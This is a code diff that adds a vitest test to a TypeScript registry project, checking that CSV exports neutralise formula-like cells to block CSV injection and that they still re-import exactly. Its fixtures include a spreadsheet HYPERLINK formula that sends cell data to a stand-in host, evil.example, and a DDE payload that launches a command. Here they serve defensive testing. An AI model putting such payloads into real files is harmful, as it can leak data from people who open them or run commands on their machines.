@@ -4,6 +4,7 @@ import { tmpdir } from "node:os"
 import { join } from "node:path"
 import { beforeAll, beforeEach, describe, expect, it } from "vitest"
 import { migrationStatus } from "../../src/infra/Database.js"
+import { parseCsv } from "../../src/domain/Csv.js"
 import { formatProblem, type InputError } from "../../src/domain/Errors.js"
 import { addRecord, exportRegistry, importRegistryFile, listRegistry, removeRecord, showRecord } from "../../src/registries/Registries.js"
 import { failWith, type OpenTestDatabase, runWith, testDatabases, truncateAll, useTestDatabase } from "../support/databases.js"
@@ -81,6 +82,27 @@ describe.each(testDatabases)("registries on $name", (testDb) => {
     expect(await runWith(shape, exportRegistry("sites", "csv"))).toBe(
       sitesCsv.split("\n").slice(0, 1).concat(sitesCsv.split("\n").slice(1, -1).sort(), [""]).join("\n")
     )
+  })
+
+  it("exports formula-like cells neutralised (OWASP CSV injection), and the export still imports back exactly", async () => {
+    await importAll()
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2", "'=already quoted", "'tis a site"]
+    for (const [i, name] of hostile.entries()) {
+      await runWith(shape, addRecord("sites", { id: `zz-${i}`, name, city: "-Dakar", country: "SN", timezone: "Africa/Dakar", locale: "fr-SN", capacity: 50, format: "online", fellow_email: "awa@example.org" }))
+    }
+    const before = await runWith(shape, listRegistry("sites"))
+    const csv = await runWith(shape, exportRegistry("sites", "csv"))
+    // no cell of the export starts with a character that a spreadsheet would run
+    for (const record of parseCsv(csv).records) for (const cell of record.fields) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click me"")"`)
+    expect(csv).toContain("'+cmd|' /C calc'!A0,'-Dakar,")
+    expect(csv).toContain("''=already quoted")
+    expect(csv).toContain(",'tis a site,")
+    await truncateAll(shape)
+    await importAll()
+    expect(await runWith(shape, importRegistryFile("sites", await file("hostile.out.csv", csv)))).toMatchObject({ inserted: hostile.length, updated: 0 })
+    expect(await runWith(shape, listRegistry("sites"))).toEqual(before)
+    expect(await runWith(shape, exportRegistry("sites", "csv"))).toBe(csv)
   })
 
   it("gives participants without a code a pseudonymous one, and keeps it on re-import", async () => {
